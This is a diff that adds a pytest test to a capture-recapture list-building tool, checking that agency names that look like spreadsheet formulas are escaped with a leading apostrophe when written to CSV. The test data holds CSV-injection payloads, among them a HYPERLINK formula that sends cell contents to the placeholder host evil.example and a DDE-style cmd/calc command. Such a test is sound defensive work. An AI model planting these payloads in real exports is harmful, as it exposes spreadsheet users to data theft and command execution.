@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+
 import polars as pl
 import pytest
 
@@ -31,3 +33,18 @@ def test_a_person_named_by_two_agencies_is_on_both_lists() -> None:
 def test_one_agency_is_not_enough() -> None:
     with pytest.raises(ParameterError, match="at least two lists"):
         capture_histories(pl.DataFrame({"referral_source": ["Police", "Police"]}))
+
+
+def test_agencies_named_like_formulas_are_text_in_a_spreadsheet(tmp_path) -> None:
+    """An agency is a column of the CSV a spreadsheet user opens: a name that reads as a formula
+    (``=HYPERLINK(...)``, ``@SUM(A1)``, ``-cmd|...``, from an export without a code list) is written as text,
+    with OWASP's leading apostrophe, and the file still reads as lists, with the counts unchanged."""
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1)", "-cmd|' /C calc'!A0", "+x"]
+    data = pl.DataFrame({"referral_source": [f"Police;{f}" for f in formulas] + ["NGO", "Police;NGO"]})
+    out = tmp_path / "lists.csv"
+    report = write_lists(data, out)
+    header = out.read_text(encoding="utf-8").splitlines()[0]
+    written = next(csv.reader([header]))
+    assert not [name for name in written if name.startswith(("=", "+", "-", "@"))], written
+    assert {f"'{f}" for f in formulas} <= set(written)
+    assert load_list_capture(out).data["count"].sum() == report.people_on_lists == data.height
